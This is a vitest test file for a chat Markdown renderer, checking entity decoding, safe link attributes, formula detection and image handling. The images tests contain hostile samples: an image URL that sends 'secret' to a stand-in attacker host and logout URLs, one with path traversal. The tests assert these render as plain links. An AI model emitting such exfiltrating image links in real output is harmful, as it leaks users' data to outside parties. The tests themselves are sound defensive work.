// @vitest-environment jsdom
/** Markdown, however hostile, becomes elements that can do nothing. */
import { describe, expect, it } from "vitest";
import { type Context, render } from "../src/render/markdown";
import { decodeHTMLStrict } from "../src/render/standins/entities";
import { IMAGES } from "./hostile";

const context = (): Context => ({ references: {}, images: IMAGES });

function html(source: string): string {
  const host = document.createElement("div");
  host.append(render(source, context()));
  return host.innerHTML;
}

function elements(source: string): Element[] {
  return [...render(source, context()).querySelectorAll("*")];
}

describe("entities", () => {
  it("are the browser's, and what is none stays as it is", () => {
    const host = document.createElement("div");
    host.append(render("&copy; &frac12; &#955; &lt;b&gt; &nonsense; &amp;amp; AT&T", context()));
    expect(host.textContent?.trim()).toBe("© ½ λ <b> &nonsense; &amp; AT&T");
    expect(host.querySelector("b")).toBeNull();
  });

  it("are decoded by our own stand-in, as in the bundle", () => {
    expect(decodeHTMLStrict("&hearts;")).toBe("♥");
    expect(decodeHTMLStrict("&semi;")).toBe(";");
    expect(decodeHTMLStrict("&notit;")).toBe("&notit;");
    expect(decodeHTMLStrict("</textarea><b>")).toBe("</textarea><b>");
  });
});

describe("links", () => {
  it("leave the page without a way back", () => {
    const [link] = elements("[x](https://ok.example)").filter((one) => one.tagName === "A");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  it("are not made of words that look like a file", () => {
    expect(html("see prices.py and example.com")).not.toContain("<a");
  });
});

describe("images", () => {
  it("are shown from the chat's own files and from the text itself", () => {
    expect(html(`![x](${IMAGES[0]}a.png)`)).toContain("<img");
    expect(html("![x](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
  });

  it("from elsewhere are links: loading one would tell a stranger", () => {
    const tracked = html("![plot](https://evil.example/?q=secret)");
    expect(tracked).not.toContain("<img");
    expect(tracked).toContain('href="https://evil.example/?q=secret"');
    expect(html("![x](https://hub.example/user/me/logout)")).not.toContain("<img");
    expect(html("![x](https://hub.example/user/me/files/../../logout)")).not.toContain("<img");
  });
});

describe("formulas", () => {
  const formula = (source: string): (string | null)[] =>
    elements(source)
      .filter((one) => one.className === "jp-Chatcore-math")
      .map((one) => one.textContent);

  it.each([
    ["$x^2$", "x^2"],
    ["a $$x$$ b", "x"],
    ["\\(a_1\\)", "a_1"],
    ["\\[a\\]", "a"],
    ["$$\na\n= b\n- c\n$$", "a\n= b\n- c"],
    ["> $$\n> a\n> b\n> $$", "a\nb"],
    ["- item\n\n  $$\n  a\n  $$", "a"],
    ["$a\\$b$", "a\\$b"],
  ])("%j", (source, tex) => {
    expect(formula(source)).toEqual([tex]);
  });

  it.each([
    "It costs $5 or $6.",
    "$ x $",
    "$100",
    "`$x$`",
    "$$",
    "\\(",
    "\\\\(x",
    "$a\nb$",
    "US$5, A$6",
  ])("is none: %j", (source) => {
    expect(formula(source)).toEqual([]);
  });

  it("that is still being written stands as its text", () => {
    expect(html("so\n\n$$\n\\frac{a}{")).toContain('class="jp-Chatcore-tex"');
  });
});
